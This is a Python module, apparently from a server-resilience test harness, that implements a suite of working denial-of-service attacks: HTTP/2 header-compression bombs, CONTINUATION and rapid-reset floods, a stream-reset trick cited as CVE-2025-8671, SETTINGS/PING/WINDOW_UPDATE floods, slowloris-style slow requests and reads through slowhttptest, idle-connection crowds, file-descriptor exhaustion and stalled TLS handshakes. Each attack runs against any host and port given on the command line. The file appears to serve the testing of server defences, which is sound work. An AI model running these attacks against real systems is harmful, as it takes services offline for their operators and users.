"""The attacks. Each runs in a process of its own: `python -m under_attack.attacks NAME HOST PORT SECONDS` prints how
many bytes it sent."""

from __future__ import annotations

import itertools
import re
import resource
import selectors
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass

from under_attack import frames

# Bytes of a connection's next move. The attack goes on with another connection when the peer ends this one.
Moves = Iterator[bytes]


@dataclass(frozen=True)
class Program:
    """Moves that slowhttptest makes, with these arguments and this target."""

    arguments: tuple[str, ...]
    path: str

    def run(self, connections: int, address: tuple[str, int], seconds: float) -> int:
        """Lets it attack an address for so long; returns the bytes sent over the connections that are still open."""
        url = f"http://{address[0]}:{address[1]}{self.path}"
        pace = ["-i", "1", "-r", str(connections), "-p", "3", "-l", str(int(seconds))]
        command = ["slowhttptest", *self.arguments, "-c", str(connections), *pace, "-u", url]
        # It ends with an error once the peer no longer lets it in, which is no failure of ours.
        attacker = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        sent = 0
        while attacker.poll() is None:
            time.sleep(0.5)
            sent = max(sent, _sent_to(address))
        return sent


def _sent_to(address: tuple[str, int]) -> int:
    """Bytes that the peer has acknowledged, as the system counts them for the connections to an address."""
    there = f"{address[0]}:{address[1]}"
    listed = subprocess.run(["ss", "-tinH", "dst", there], capture_output=True, text=True, check=True).stdout
    return sum(int(figure) for figure in re.findall(r"bytes_acked:(\d+)", listed))


def _slow(*arguments: str, path: str = "/64k") -> Program:
    return Program(arguments, path)


@dataclass(frozen=True)
class Attack:
    """A number of connections that each make the same moves, again and again or with a pause in between."""

    name: str
    what: str
    moves: Callable[[], Moves] | Program
    connections: int
    pause_seconds: float = 0.0
    # Over which its connections are begun; before that, honest clients are not looked at.
    ramp_seconds: float = 0.0
    # Whether it is about the answers.
    is_answered: bool = False
    # What the program attacked is started below.
    wrapper: tuple[str, ...] = ()
    # Whether it aims at where clients speak TLS. Honest ones go on without it.
    at_tls: bool = False


# Over windows of 10 to 20 bytes.
_SLOW_READ = ("-X", "-w", "10", "-y", "20")

# Streams that a peer is asked for at once.
_STREAMS = 100

_BATCH = 64


def _opening(*pairs: tuple[int, int]) -> bytes:
    return frames.PREFACE + frames.settings(*pairs)


def _odd() -> Iterator[int]:
    return itertools.count(1, 2)


def _bomb(field: bytes, names: int) -> Callable[[], Moves]:
    """A field of the dynamic table that is named many times by one byte each, in streams that never end because their
    windows stay shut but for a byte now and then."""

    def moves() -> Moves:
        yield _opening((frames.INITIAL_WINDOW_SIZE, 0))
        streams = list(itertools.islice(_odd(), 2 * _STREAMS))
        for turn, stream in enumerate(streams):
            block = frames.get(field if turn == 0 else b"", frames.FIRST_ADDED * names)
            yield frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block)
        while True:
            yield from (frames.window_update(stream, 1) for stream in streams)

    return moves


def _continuations() -> Moves:
    yield _opening() + frames.frame(frames.HEADERS, frames.END_STREAM, 1, frames.get())
    piece = frames.frame(frames.CONTINUATION, 0, 1, frames.literal(b"x", b"y" * 100) * 100)
    while True:
        yield piece


def _rapid_resets() -> Moves:
    yield _opening()
    streams = _odd()
    while True:
        pairs = [
            frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, frames.get())
            + frames.reset(stream)
            for stream in itertools.islice(streams, _BATCH)
        ]
        yield b"".join(pairs)


def _made_resets() -> Moves:
    """The peer is made to reset each stream itself: a window must not grow by 0 (CVE-2025-8671)."""
    yield _opening()
    streams = _odd()
    while True:
        pairs = [
            frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, frames.get())
            + frames.window_update(stream, 0)
            for stream in itertools.islice(streams, _BATCH)
        ]
        yield b"".join(pairs)


def _repeated(piece: bytes) -> Callable[[], Moves]:
    def moves() -> Moves:
        head = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.get())
        yield _opening() + head
        while True:
            yield piece * _BATCH

    return moves


def _silence() -> Moves:
    yield b""
    while True:
        yield b""


# The first bytes of a TLS handshake (RFC 8446 section 5.1): a record of which most is missing.
_HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)


def _half_hello() -> Moves:
    yield _HALF_HELLO
    while True:
        yield b""


_REQUEST = b"GET / HTTP/1.1\r\nhost: a\r\n\r\n"

_turns = itertools.count()


def _crowd() -> Moves:
    """One of eleven clients asks each second, the others once."""
    is_busy = next(_turns) % 11 == 0
    yield _REQUEST
    while True:
        yield _REQUEST if is_busy else b""


# 10,000 that are idle and 1,000 that are busy, where a program may have so many files open.
_CROWD = min(11_000, resource.getrlimit(resource.RLIMIT_NOFILE)[1] * 3 // 5 - 300)

_FEW_FILES = ("prlimit", "--nofile=256")

_SMALL = frames.literal(b"x", b"y", indexed=True)
_LARGE = frames.literal(b"x", b"y" * 317, indexed=True)
_CRUMB = frames.literal(b"cookie", b"a=b", indexed=True)

ATTACKS = (
    Attack("h2-bomb", "480 one-byte names of one field, windows shut", _bomb(_SMALL, 480), 10, 0.01),
    Attack("h2-bomb-large", "40 one-byte names of a field of 350 bytes, windows shut", _bomb(_LARGE, 40), 10, 0.01),
    Attack("h2-crumbs", "480 one-byte names of one crumb of a cookie, windows shut", _bomb(_CRUMB, 480), 10, 0.01),
    Attack("h2-continuation", "a head of HTTP/2 without an end", _continuations, 10),
    Attack("h2-rapid-reset", "streams reset as soon as they are opened", _rapid_resets, 10),
    Attack("h2-made-reset", "streams that the peer has to reset", _made_resets, 10),
    Attack("h2-settings", "SETTINGS without end", _repeated(frames.settings((frames.INITIAL_WINDOW_SIZE, 65_535))), 10),
    Attack("h2-ping", "PING without end", _repeated(frames.frame(frames.PING, 0, 0, bytes(8))), 10),
    Attack("h2-empty-data", "DATA without bytes, without end", _repeated(frames.frame(frames.DATA, 0, 1)), 10),
    Attack("h2-window-update", "WINDOW_UPDATE by a byte, without end", _repeated(frames.window_update(0, 1)), 10),
    Attack("silence", "connections that say nothing", _silence, 1_000, 1.0),
    Attack("slow-head", "heads that go on by a field a second", _slow("-H"), 1_000),
    Attack("slow-body", "bodies that go on by some bytes a second", _slow("-B"), 1_000),
    Attack("slow-read", "responses that are read by a few bytes a second", _slow(*_SLOW_READ), 1_000, is_answered=True),
    Attack("slow-read-large", "the same, of 10 MiB", _slow(*_SLOW_READ, path="/10m"), 1_000, is_answered=True),
    Attack("crowd", "clients of which one in eleven asks once a second", _crowd, _CROWD, 1.0, ramp_seconds=10.0),
    Attack("few-files", "more clients than a program may open files, 256", _crowd, 400, 1.0, wrapper=_FEW_FILES),
    Attack("half-hello", "TLS handshakes that stop in the first message", _half_hello, 1_000, 1.0, at_tls=True),
)


class _Connection:
    """One connection of an attack, begun anew whenever the peer ends it."""

    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
        self._attack = attack
        self._address = address
        self.sent = 0
        self._begin()

    def _begin(self) -> None:
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self._moves = self._attack.moves()
        self._rest = b""
        # Whether it comes about shows when it is written to.
        self.socket.connect_ex(self._address)

    def move(self) -> None:
        """Goes on as far as the peer takes it, for one move at most."""
        try:
            self._rest = self._rest or next(self._moves)
            if self._rest:
                count = self.socket.send(self._rest)
                self.sent += count
                self._rest = self._rest[count:]
            self._drain()
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self._begin()

    def _drain(self) -> None:
        with suppress(BlockingIOError):
            if self.socket.recv(65_536) == b"":
                raise OSError("the peer ended the connection")


# Clients are spread over each pause, so that they do not come as one burst.
_PARTS = 20


def run(attack: Attack, address: tuple[str, int], seconds: float) -> int:
    """Attacks an address for so long; returns the bytes sent."""
    if isinstance(attack.moves, Program):
        return attack.moves.run(attack.connections, address, seconds)
    begun = time.monotonic()
    deadline = begun + attack.ramp_seconds + seconds
    connections: list[_Connection] = []
    while (turn := time.monotonic()) < deadline:
        ramped = (turn - begun) / attack.ramp_seconds if attack.ramp_seconds else 1.0
        wanted = int(attack.connections * min(1.0, ramped))
        connections += [_Connection(attack, address) for _ in range(wanted - len(connections))]
        for part in range(_PARTS):
            for connection in connections[part::_PARTS]:
                connection.move()
            due = turn + attack.pause_seconds * (part + 1) / _PARTS
            time.sleep(max(0.0, min(due, deadline) - time.monotonic()))
    sent = sum(connection.sent for connection in connections)
    for connection in connections:
        connection.socket.close()
    return sent


def sink(port: int) -> None:
    """Takes whatever comes and answers nothing, for ever."""
    listener = socket.create_server(("127.0.0.1", port), backlog=4096)
    selector = selectors.DefaultSelector()
    selector.register(listener, selectors.EVENT_READ)
    buffer = bytearray(1 << 20)
    while True:
        for key, _ in selector.select():
            if key.fileobj is listener:
                connection, _ = listener.accept()
                connection.setblocking(False)
                selector.register(connection, selectors.EVENT_READ)
                continue
            connection = key.fileobj
            try:
                is_over = connection.recv_into(buffer) == 0
            except OSError:
                is_over = True
            if is_over:
                selector.unregister(connection)
                connection.close()


def main(arguments: list[str]) -> None:
    """`sink PORT`, or an attack's name, host, port and seconds."""
    if arguments[0] == "sink":
        sink(int(arguments[1]))
    name, host, port, seconds = arguments
    attack = next(attack for attack in ATTACKS if attack.name == name)
    print(run(attack, (host, int(port)), float(seconds)))


if __name__ == "__main__":
    main(sys.argv[1:])
